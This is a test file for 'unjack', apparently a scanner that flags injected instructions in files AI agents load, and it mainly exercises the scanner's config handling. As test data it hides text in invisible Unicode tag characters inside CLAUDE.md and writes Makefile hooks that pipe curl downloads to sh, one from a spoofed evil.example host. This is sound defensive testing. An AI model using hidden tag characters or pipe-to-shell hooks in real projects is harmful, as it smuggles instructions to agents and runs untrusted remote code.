// The config file through the built command line: what each field does, and every fault with its line, its field and the
// nearest right name.
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { tree, write } from '../targets/support/tree.ts';
import { rawCharacter, unjack } from './support/run.ts';

const tags = [...'a note about the weather of last week']
  .map(c => String.fromCodePoint(0xe0000 + c.charCodeAt(0)))
  .join('');
const POISON = `# Rules\n\n- Keep commits small.${tags}\n`;
const FILES = { 'CLAUDE.md': POISON, 'docs/a.md': POISON };

/** A tree, and beside it a config that is named. */
async function scanned(config: unknown, args: readonly string[] = [], files: Record<string, string> = FILES) {
  const cwd = tree({});
  write(join(cwd, 'repo'), files);
  writeFileSync(join(cwd, 'unjack.config.json'), typeof config === 'string' ? config : JSON.stringify(config));
  const ran = await unjack(['repo', '--config', 'unjack.config.json', '-f', 'json', ...args], { cwd });
  return { ...ran, report: ran.code === 2 ? undefined : JSON.parse(ran.stdout) };
}

const open = (report: { findings: { path: string; suppression?: unknown }[] }) =>
  report.findings.filter(one => !one.suppression).map(one => one.path);

test.each([
  ['nothing', {}, 1, ['CLAUDE.md', 'docs/a.md']],
  ['comments and trailing commas', '{\n  // ours\n  "exclude": ["docs",],\n}\n', 1, ['CLAUDE.md']],
  ['a byte-order mark', '\ufeff{"exclude": ["docs"]}', 1, ['CLAUDE.md']],
  ['exclude', { exclude: ['docs/**', 'CLAUDE.md'] }, 0, []],
  ['failOn', { failOn: 'never' }, 0, ['CLAUDE.md', 'docs/a.md']],
  ['a rule that is off', { rules: { 'smuggled-text': 'off' } }, 0, undefined],
  ['a severity', { rules: { 'smuggled-text': 'low' } }, 0, ['CLAUDE.md', 'docs/a.md']],
  [
    'an override',
    { overrides: [{ files: ['docs'], rules: { 'smuggled-text': 'low' } }] },
    1,
    ['CLAUDE.md', 'docs/a.md'],
  ],
  [
    'the last override counts',
    {
      rules: { 'smuggled-text': 'low' },
      overrides: [
        { files: ['**/*.md'], rules: { 'smuggled-text': 'off' } },
        { files: ['docs'], rules: { 'smuggled-text': 'default' } },
        { files: ['CLAUDE.md'], rules: { 'smuggled-text': 'low' } },
      ],
    },
    1,
    ['CLAUDE.md', 'docs/a.md'],
  ],
  [
    'suppressions',
    {
      suppressions: [
        { rule: 'smuggled-text', files: ['CLAUDE.md', 'docs/*.md'], reason: 'our own test of the reader' },
      ],
    },
    0,
    [],
  ],
  [
    'an expired one',
    { suppressions: [{ rule: 'smuggled-text', files: ['CLAUDE.md'], reason: 'ours', expires: '2020-01-01' }] },
    1,
    ['CLAUDE.md', 'docs/a.md'],
  ],
])('%s', async (_, config, code, paths) => {
  const { report, ...ran } = await scanned(config);
  expect({ code: ran.code, stderr: ran.stderr }).toEqual({ code, stderr: '' });
  if (paths) expect([...new Set(open(report))]).toEqual(paths);
});

test('the option wins over the config', async () => {
  expect((await scanned({ failOn: 'never' }, ['--fail-on', 'low'])).code).toBe(1);
});

test('what is off, unused, expired or excluded is told', async () => {
  const { report } = await scanned({
    exclude: ['docs'],
    rules: { 'smuggled-text': 'off' },
    suppressions: [
      { rule: 'tag-characters', files: ['gone.md'], reason: 'not there' },
      { rule: 'tag-characters', files: ['*'], reason: 'too old', expires: '2020-01-01' },
    ],
  });
  expect(report.notices.map((one: { kind: string }) => one.kind).sort()).toEqual([
    'ignored',
    'suppression-expired',
    'suppression-unused',
    'switched-off',
  ]);
});

test('a surface of the config makes a file one that agents load', async () => {
  const files = { 'prompts/system.txt': `Be brief.${tags}\n`, '.gitignore': 'prompts/\n' };
  const { report } = await scanned(
    {
      surfaces: [
        {
          files: ['prompts/*.txt'],
          title: 'Bot prompt',
          kind: 'instructions',
          agent: 'Our bot',
          when: 'session-start',
        },
      ],
    },
    [],
    files,
  );
  expect(report.findings[0]).toMatchObject({
    path: 'prompts/system.txt',
    severity: 'critical',
    surface: 'Bot prompt',
    loadedBy: expect.arrayContaining([{ agent: 'Our bot', when: 'session-start' }]),
  });
  expect(report.stats.loaded).toEqual(['prompts/system.txt']);
});

test('a trusted host is judged like a known one, and only over https', async () => {
  const hooks = (url: string) => ({ Makefile: `setup:\n\tcurl -s ${url} | sh\n` });
  const trust = { trustedHosts: ['Tools.corp.example', 'cdn.example/ours'] };
  const found = async (url: string, config: unknown = trust) =>
    open((await scanned(config, [], hooks(url))).report).length;
  expect(await found('https://tools.corp.example/x.sh', {})).toBeGreaterThan(0);
  expect(await found('https://tools.corp.example/x.sh')).toBe(0);
  expect(await found('https://a.tools.corp.example/x.sh')).toBe(0);
  expect(await found('https://cdn.example/ours/x.sh')).toBe(0);
  expect(await found('https://cdn.example/oursbutnot/x.sh')).toBeGreaterThan(0);
  expect(await found('https://cdn.example/ours/%2e%2e/x.sh')).toBeGreaterThan(0);
  expect(await found('https://cdn.example/theirs/x.sh')).toBeGreaterThan(0);
  expect(await found('http://tools.corp.example/x.sh')).toBeGreaterThan(0);
  expect(await found('https://tools.corp.example.evil.example/x.sh')).toBeGreaterThan(0);
});

test('rules of the config lie beside it; --rules adds more, and unjack rules lists them', async () => {
  const cwd = tree({});
  const rule = (word: string) =>
    `title: Says ${word}\nmessage: Says ${word}\ndirective: 2\nreason: No.\naction: Delete it.\nmatch:\n  regex: ${word}\n`;
  write(cwd, {
    'repo/a.md': 'wombat and quokka\n',
    'team/unjack.config.json': JSON.stringify({ extraRules: ['rules'], rules: { 'says-wombat': 'high' } }),
    'team/rules/says-wombat.yaml': rule('wombat'),
    'more/says-quokka.yaml': rule('quokka'),
  });
  const args = ['repo', '-c', 'team/unjack.config.json', '--rules', 'more'];
  const { code, stdout } = await unjack([...args, '-f', 'concise'], { cwd });
  expect(code).toBe(1);
  expect(stdout).toContain('a.md:1:1: high: Says wombat [says-wombat]\n');
  expect(stdout).toContain('a.md:1:12: medium: Says quokka [says-quokka]\n');
  expect((await unjack([...args, '-f', 'agent'], { cwd })).stdout).not.toMatch(/wombat|quokka/);
  expect((await unjack([...args, '-f', 'sarif'], { cwd })).stdout).toContain('"says-quokka"');
  const listed = await unjack(['rules', '--rules', 'more'], { cwd });
  expect(listed.stdout).toContain('says-quokka');
});

test.each([
  ['a missing file', ['--config', 'gone.json'], /^unjack: --config gone\.json: there is no such file \(/],
  ['a folder', ['--config', '.'], /--config \.: is not a file/],
  ['bytes that are no text', ['--config', 'bytes.json'], /bytes\.json: is not UTF-8/],
  ['an empty file', ['--config', 'empty.json'], /empty\.json:1:1: there is nothing in it/],
  ['a comma that is missing', ['--config', 'comma.json'], /comma\.json:3:3: a comma is missing/],
  ['a list', ['--config', 'list.json'], /list\.json:1:1: must be an object/],
  ['very deep nesting', ['--config', 'deep.json'], /deep\.json:1:1: is nested too deeply/],
  [
    'an unknown field',
    ['--config', 'field.json'],
    /field\.json:2:3: supressions: there is no such field, did you mean suppressions\?/,
  ],
  ['a field twice', ['--config', 'twice.json'], /twice\.json:1:15: exclude: stands here twice/],
  [
    'an unknown rule',
    ['--config', 'rule.json'],
    /rule\.json:1:13: rules\.smugled-text: there is no rule smugled-text, did you mean smuggled-text\?/,
  ],
  [
    'an unknown rule in a suppression',
    ['--config', 'in.json'],
    /in\.json:1:29: suppressions\[0\]\.rule: there is no rule smugled-text, did you mean/,
  ],
  [
    'an unknown severity',
    ['--config', 'severity.json'],
    /rules\.smuggled-text: "hgih" is not one of off, .*, did you mean high\?/,
  ],
  ['no reason', ['--config', 'reason.json'], /suppressions\[0\]: needs reason/],
  ['an empty reason', ['--config', 'empty-reason.json'], /suppressions\[0\]\.reason: must say something/],
  ['no such date', ['--config', 'date.json'], /suppressions\[0\]\.expires: must be a date, YYYY-MM-DD/],
  ['a path out of the tree', ['--config', 'glob.json'], /exclude\[0\]: must be relative/],
  ['a URL for a host', ['--config', 'host.json'], /trustedHosts\[0\]: must be a host such as/],
  ['a host for everything', ['--config', 'tld.json'], /trustedHosts\[0\]: must be a host such as/],
  [
    'control characters in a name',
    ['--config', 'raw.json'],
    /raw\.json:1:2: a<U\+001B>\[31m<U\+202E>: there is no such field/,
  ],
  ['a folder of rules that is missing', ['--rules', 'gone'], /--rules gone: there is no such folder/],
  ['a folder without rules', ['--rules', 'empty'], /--rules empty: there is no \.yaml file in it/],
  [
    'a rule that is wrong',
    ['--rules', 'rules'],
    /rules\/my-rule\.yaml:2: directiv: is not a field of a rule, did you mean directive\?/,
  ],
  ['a missing baseline', ['--baseline', 'gone.json'], /--baseline gone\.json: there is no such file/],
  ['a baseline that is none', ['--baseline', 'list.json'], /list\.json:1:1: must be an object/],
  ['an update of nothing', ['--update-baseline'], /--update-baseline needs --baseline FILE/],
  [
    'an update after a scan of some',
    ['a.md', '--baseline', 'base.json', '--update-baseline'],
    /needs a scan of one whole folder/,
  ],
])('%s exits 2', async (_, args, message) => {
  const one = (more: object) =>
    JSON.stringify({ suppressions: [{ rule: 'smuggled-text', files: ['*'], reason: 'our own', ...more }] });
  const cwd = tree({
    'a.md': 'fine',
    'bytes.json': new Uint8Array([0x7b, 0xff, 0x7d]),
    'empty.json': '',
    'comma.json': '{\n  "exclude": []\n  "rules": {}\n}',
    'list.json': '[]',
    'deep.json': '['.repeat(100_000),
    'field.json': '{\n  "supressions": []\n}',
    'twice.json': '{"exclude":[],"exclude":[]}',
    'rule.json': '{"rules": { "smugled-text": "off" }}',
    'in.json': '{"suppressions": [{ "rule": "smugled-text", "files": ["*"], "reason": "our own" }]}',
    'severity.json': '{"rules": { "smuggled-text": "hgih" }}',
    'reason.json': '{"suppressions": [{ "rule": "smuggled-text", "files": ["*"] }]}',
    'empty-reason.json': one({ reason: ' ' }),
    'date.json': one({ expires: '2026-02-30' }),
    'glob.json': '{"exclude": ["../x"]}',
    'host.json': '{"trustedHosts": ["https://x.example"]}',
    'tld.json': '{"trustedHosts": ["com"]}',
    'raw.json': '{"a\u001b[31m\u202e": 1}'.replace('\u001b', '\\u001b'),
    'rules/my-rule.yaml': 'title: x\ndirectiv: 1\n',
    'base.json': '{"form": "unjack baseline 1", "findings": []}',
  });
  mkdirSync(join(cwd, 'empty'));
  const { code, stdout, stderr } = await unjack(args, { cwd });
  expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
  expect(stderr).toMatch(message);
  for (const line of stderr.trimEnd().split('\n')) expect(line).toMatch(/^unjack: /);
  expect(rawCharacter(stderr)).toBeUndefined();
});

test('a config in the tree counts for nothing unless it is named, and the report says so', async () => {
  const config = JSON.stringify({ exclude: ['**'], failOn: 'never' });
  const cwd = tree({ ...FILES, 'unjack.config.json': config, 'unjack.baseline.json': '{}' });
  const { code, stdout } = await unjack(['-f', 'json'], { cwd });
  expect(code).toBe(1);
  const kinds = JSON.parse(stdout).notices.map((one: { kind: string; path: string }) => `${one.kind} ${one.path}`);
  expect(kinds).toEqual(['not-obeyed unjack.baseline.json', 'not-obeyed unjack.config.json']);
  const pretty = await unjack([], { cwd });
  expect(pretty.stdout).toMatch(/Not obeyed: 2 .*unjack\.baseline\.json/s);
  const named = await unjack(['-c', 'unjack.config.json'], { cwd });
  expect(named.code).toBe(0);
});

test('another file of the same name in the scanned tree is not the one that was named', async () => {
  const cwd = tree({
    'unjack.config.json': '{}',
    'repo/unjack.config.json': '{"failOn": "never"}',
    'repo/CLAUDE.md': POISON,
  });
  const { code, stdout } = await unjack(['repo', '-c', 'unjack.config.json', '-f', 'json'], { cwd });
  expect(code).toBe(1);
  expect(JSON.parse(stdout).notices).toMatchObject([{ kind: 'not-obeyed', path: 'unjack.config.json' }]);
  symlinkSync('repo/unjack.config.json', join(cwd, 'link.json'));
  const named = await unjack(['repo', '-c', 'link.json', '-f', 'json'], { cwd });
  expect(named.code).toBe(0);
  expect(JSON.parse(named.stdout).notices).toEqual([]);
});
